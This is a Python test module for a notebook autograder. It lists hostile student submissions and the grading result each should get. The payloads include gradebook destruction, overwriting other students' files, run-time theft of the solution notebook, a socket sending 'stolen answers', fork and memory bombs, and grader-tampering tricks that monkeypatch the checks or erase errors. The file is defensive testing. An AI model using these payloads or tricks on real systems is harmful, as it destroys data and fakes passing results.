"""Hostile and broken submissions of the warm-up, graded in one batch with honest ones.

Every entry says which test cells must score zero (all others keep full marks) and what the
grading log must say about it. See tests/hostile/__init__.py for the format.
"""

from __future__ import annotations

import copy

import nbformat

from hostile import IN_SANDBOX_ONLY, cell_index, stopped_by

SIG = ["test_sigmoid_visible", "test_sigmoid_hidden"]
DER = ["test_derivatives_visible", "test_derivatives_hidden"]
NG = ["test_numerical_gradient_visible", "test_numerical_gradient_hidden"]
WRONG_SIGMOID = "def sigmoid(z):\n    return 0.5 * np.ones_like(z)\n"


def _reordered(ctx):
    nb = ctx.filled()
    nb.cells = nb.cells[::-1]
    return nb


def _deleted_tests(ctx):
    nb = ctx.filled()
    for gid in ("test_sigmoid_hidden", "test_derivatives_visible", "setup"):
        del nb.cells[cell_index(nb, gid)]
    return nb


def _duplicated(ctx):
    nb = ctx.filled()
    fake_test = copy.deepcopy(nb.cells[cell_index(nb, "test_sigmoid_visible")])
    fake_test.source = "pass"
    fake_test.id = "copy-of-test"
    nb.cells.append(fake_test)  # the last copy of a test counts, but its source is put back
    early = copy.deepcopy(nb.cells[cell_index(nb, "sigmoid")])
    early.source = WRONG_SIGMOID  # an older wrong copy above the final answer
    early.id = "copy-of-sigmoid"
    nb.cells.insert(cell_index(nb, "sigmoid"), early)
    return nb


def _renamed(ctx):
    nb = ctx.filled()
    nb.cells[cell_index(nb, "sigmoid")].metadata.nbgrader["grade_id"] = "my_sigmoid"
    test = nb.cells[cell_index(nb, "test_sigmoid_hidden")]
    test.metadata.nbgrader["grade_id"] = "test_mine"
    test.source = "print('all good')"
    bonus = nbformat.v4.new_code_cell("print('bonus')", metadata={"nbgrader": {
        "grade": True, "grade_id": "bonus", "locked": True, "points": 100, "schema_version": 3,
        "solution": False, "task": False}})
    nb.cells.append(bonus)
    return nb


def _edited_tests(ctx):
    nb = ctx.filled(sigmoid=WRONG_SIGMOID)
    for gid in SIG:
        nb.cells[cell_index(nb, gid)].source = "print('sigmoid: visible test passed')"
    return nb


def _edited_metadata(ctx):
    nb = ctx.filled(sigmoid=WRONG_SIGMOID)
    for gid in SIG:
        cell = nb.cells[cell_index(nb, gid)]
        cell.metadata.nbgrader.update(grade=False, locked=False, solution=True, points=100)
        cell.source = "pass"
    nb.cells[cell_index(nb, "setup")].metadata.nbgrader["locked"] = False
    return nb


def _empty_notebook(ctx):
    nb = nbformat.v4.new_notebook()
    nb.metadata = copy.deepcopy(ctx.release.metadata)
    return nb


def _kernelspec(ctx):
    nb = ctx.filled()
    nb.metadata.kernelspec = {"name": "evil", "display_name": "Evil", "language": "python"}
    return nb


def _writes_gradebook(ctx):
    return ctx.filled(sigmoid=ctx.answer("sigmoid") + f'''
import os, sqlite3
targets = [{str(ctx.course / "gradebook.db")!r}]
here = os.getcwd()
for _ in range(8):
    targets.append(os.path.join(here, "gradebook.db"))
    here = os.path.dirname(here)
for path in targets:
    try:
        with sqlite3.connect(path) as db:
            db.execute("DROP TABLE grade")
    except Exception:
        pass
    try:
        with open(path, "w") as f:
            f.write("PWNED: not a database any more")
    except Exception:
        pass
''')


def _writes_others(ctx):
    return ctx.filled(derivatives=ctx.answer("derivatives") + f'''
import glob, os
course = {str(ctx.course)!r}
for pattern in ["submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "solutions/*/*.ipynb", "exercises/*/*.ipynb",
                "nbgrader_config.py", "../../*/*/*.ipynb"]:
    for path in glob.glob(os.path.join(course, pattern)) + glob.glob(pattern):
        try:
            with open(path, "w") as f:
                f.write("PWNED")
        except Exception:
            pass
for folder in [course, os.path.join(course, "submitted", "reference")]:
    try:
        open(os.path.join(folder, "PWNED.txt"), "w").write("PWNED")
    except Exception:
        pass
''')


def _reads_solutions(ctx):
    # With the instructor's files in reach, this copies the model answer at run time, so the
    # submission itself never contains it. In the sandbox the files are not there.
    return ctx.filled(sigmoid=f'''
import json, os
def _steal():
    for path in [{str(ctx.course / "solutions" / "ex00_how_to_use" / "ex00_how_to_use.ipynb")!r},
                 "../../../solutions/ex00_how_to_use/ex00_how_to_use.ipynb"]:
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        for cell in cells:
            if cell["metadata"].get("nbgrader", {{}}).get("grade_id") == "sigmoid":
                return "".join(cell["source"])
    return "def sigmoid(z):\\n    raise NotImplementedError()\\n"
exec(_steal())
''')


def _network(ctx):
    return ctx.filled(numerical_gradient=ctx.answer("numerical_gradient") + f'''
import socket
for host in ["127.0.0.1", "localhost"]:
    try:
        with socket.create_connection((host, {ctx.port}), timeout=2) as s:
            s.sendall(b"PWNED: stolen answers")
    except Exception:
        pass
''')


HOSTILE = {
    # --- time, processes, memory, output -------------------------------------------------
    "loop-at-import": {
        "build": lambda ctx: ctx.filled(sigmoid="while True:\n    pass\n\n" + ctx.answer("sigmoid")),
        "loses": SIG,
        "reason": r"sigmoid: timed out",
    },
    "loop-ignoring-interrupts": {
        "build": lambda ctx: ctx.filled(derivatives=(
            "while True:\n    try:\n        while True:\n            pass\n    except KeyboardInterrupt:\n        pass\n\n"
            + ctx.answer("derivatives"))),
        "loses": DER,
        "reason": r"derivatives: timed out and the kernel ignored the interrupt",
    },
    "loop-in-graded-function": {
        "build": lambda ctx: ctx.filled(sigmoid="def sigmoid(z):\n    while True:\n        pass\n"),
        "loses": SIG,
        "reason": r"test_sigmoid_visible: timed out",
    },
    "os-exit-in-answer-cell": {
        "build": lambda ctx: ctx.filled(derivatives=ctx.answer("derivatives") + "\nimport os\nos._exit(3)\n"),
        "loses": DER,
        "reason": r"derivatives: the kernel exited with status 3",
    },
    "segfault-in-graded-function": {
        "build": lambda ctx: ctx.filled(numerical_gradient=(
            "import ctypes\n\ndef numerical_gradient(f, x, h=1e-5):\n    ctypes.string_at(0)\n")),
        "loses": NG,
        "reason": r"test_numerical_gradient_visible: the kernel crashed with a segmentation fault",
    },
    "memory-bomb": {
        "build": lambda ctx: ctx.filled(sigmoid=IN_SANDBOX_ONLY + (
            "def sigmoid(z):\n    hog = []\n    while True:\n        hog.append(bytearray(64 * 2**20))\n")),
        "loses": SIG,
        # the memory limit (the test reports sigmoid raised MemoryError), or first the time limit
        "reason": stopped_by("test_sigmoid_visible", "memory", "time"),
    },
    "fork-bomb": {
        "build": lambda ctx: ctx.filled(derivatives=IN_SANDBOX_ONLY + (
            "while True:\n    os.fork()\n\n") + ctx.answer("derivatives")),
        "loses": DER,
        # the process limit (fork raises BlockingIOError), or first the time limit on a loaded machine
        "reason": stopped_by("derivatives", "processes", "time"),
    },
    "huge-output-many-lines": {
        "build": lambda ctx: ctx.filled(sigmoid=ctx.answer("sigmoid") + "\nfor i in range(200_000):\n    print('spam', i)\n"),
        "loses": [],
        # the output cap ("cell N: output cut"), or first the time limit on a loaded machine
        "reason": r"output cut|" + stopped_by("sigmoid", "time"),
    },
    "huge-output-one-message": {
        "build": lambda ctx: ctx.filled(numerical_gradient=ctx.answer("numerical_gradient") + "\nprint('x' * (100 * 2**20))\n"),
        "loses": [],
        "reason": r"",
    },
    # --- not a notebook ------------------------------------------------------------------
    "not-json": {"build": lambda ctx: b"this is my homework, see attached\n", "loses": "all", "status": "failed",
                 "reason": r"not graded: .*not a notebook: not valid JSON"},
    "empty-file": {"build": lambda ctx: b"", "loses": "all", "status": "failed", "reason": r"not graded: .*is empty"},
    "json-not-a-notebook": {"build": lambda ctx: b'{"cells": "none", "answers": [1, 2, 3]}', "loses": "all",
                            "status": "failed", "reason": r"not graded: .*JSON but not a valid notebook"},
    "empty-notebook": {"build": _empty_notebook, "loses": "all",
                       "reason": r"the answer cell 'sigmoid' was deleted.*test_sigmoid_visible: NameError"},
    # --- structure -----------------------------------------------------------------------
    "deleted-test-cells": {"build": _deleted_tests, "loses": [],
                           "reason": r"cell 'test_sigmoid_hidden' was deleted: put back"},
    "reordered-cells": {"build": _reordered, "loses": [], "reason": r"cells were moved"},
    "duplicated-cells": {"build": _duplicated, "loses": [], "reason": r"appears more than once"},
    "renamed-cells": {"build": _renamed, "loses": [], "reason": r"'my_sigmoid' is not part of the assignment"},
    "edited-test-cells": {"build": _edited_tests, "loses": SIG, "reason": r"the locked cell 'test_sigmoid_visible' was edited"},
    "edited-nbgrader-metadata": {"build": _edited_metadata, "loses": SIG,
                                 "reason": r"the nbgrader metadata of 'test_sigmoid_visible' was changed"},
    "swapped-kernelspec": {"build": _kernelspec, "loses": [], "reason": r""},
    # --- cheating the checks ---------------------------------------------------------------
    "monkeypatched-helpers": {
        "build": lambda ctx: ctx.filled(sigmoid=WRONG_SIGMOID + (
            "grading.compare = lambda *a, **k: None\n"
            "grading.check_cases = lambda *a, **k: None\n"
            "grading.check_elementwise = lambda *a, **k: None\n"
            "grading.check_numpy_intact = lambda: None\n"
            "np.allclose = lambda *a, **k: True\n")),
        "loses": SIG,
        "reason": r"before test_sigmoid_visible: undid .*lstm_ref.grading.compare reassigned",
    },
    "patches-helpers-while-tested": {
        "build": lambda ctx: ctx.filled(sigmoid=(
            "def sigmoid(z):\n    grading.compare = lambda *a, **k: None\n    return 0.5 * np.ones_like(z)\n")),
        "loses": SIG,
        # the checks keep their own compare, so the test fails on the wrong value, and the guard
        # reports the reassignment it undid after the test
        "reason": r"test_sigmoid_visible: tampering during the test: lstm_ref\.grading\.compare reassigned",
    },
    "ipython-hooks": {
        "build": lambda ctx: ctx.filled(sigmoid=WRONG_SIGMOID + (
            "ip = get_ipython()\n"
            "ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
            "def _forgive(result):\n    result.error_in_exec = None\n"
            "ip.events.register('post_run_cell', _forgive)\n")),
        "loses": SIG,
        "reason": r"undid .*input_transformers_cleanup",
    },
    "calls-lstm-ref": {"build": lambda ctx: ctx.filled(sigmoid="from lstm_ref.activations import sigmoid\n"),
                       "loses": SIG, "reason": r"calls into lstm_ref"},
    "hardcoded-visible-answer": {
        "build": lambda ctx: ctx.filled(numerical_gradient="def numerical_gradient(f, x, h=1e-5):\n    return 3 * x ** 2\n"),
        "loses": ["test_numerical_gradient_hidden"],
        "reason": r"test_numerical_gradient_hidden: GradingError",
    },
    "nan-and-inf": {
        "build": lambda ctx: ctx.filled(derivatives=(
            "def dsigmoid(z):\n    return np.full_like(z, np.nan)\n\n\ndef dtanh(z):\n    return np.full_like(z, np.inf)\n")),
        "loses": DER,
        "reason": r"test_derivatives_visible: GradingError: .*nan",
    },
    "wrong-dtype": {
        "build": lambda ctx: ctx.filled(sigmoid=(
            "def sigmoid(z):\n    e = np.exp(-np.abs(z))\n"
            "    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e)).astype(np.float16)\n")),
        "loses": SIG,
        "reason": r"test_sigmoid_visible: GradingError: .*dtype",
    },
    # --- reaching outside ------------------------------------------------------------------
    "writes-gradebook": {"build": _writes_gradebook, "loses": [], "reason": r"works with files"},
    "writes-other-students-files": {"build": _writes_others, "loses": [], "reason": r"works with files"},
    "reads-solutions": {"build": _reads_solutions, "loses": SIG, "reason": r"test_sigmoid_visible: GradingError: sigmoid is not implemented"},
    "network": {"build": _network, "loses": [], "reason": r"uses the network"},
    # a link instead of a notebook: nbgrader would copy the model answer in as the submission
    "symlink-to-the-solutions": {
        "build": lambda ctx: ("symlink", "../../../solutions/ex00_how_to_use/ex00_how_to_use.ipynb"),
        "loses": "all", "status": "failed", "reason": r"not graded: it contains symbolic links",
    },
    "symlinked-data-file": {
        "build": lambda ctx: ("symlink-beside", ctx.filled(), "../../../gradebook.db"),
        "loses": "all", "status": "failed", "reason": r"not graded: it contains symbolic links \(notes.txt -> ",
    },
}

# Honest submissions graded in the same batch: the full solution, the untouched release, and
# two entries of the wrong-solution catalogue (tests/wrong_solutions/ex00_how_to_use.py).
HONEST = ["reference", "untouched", "sigmoid_naive_overflows", "dtanh_forgets_the_square"]
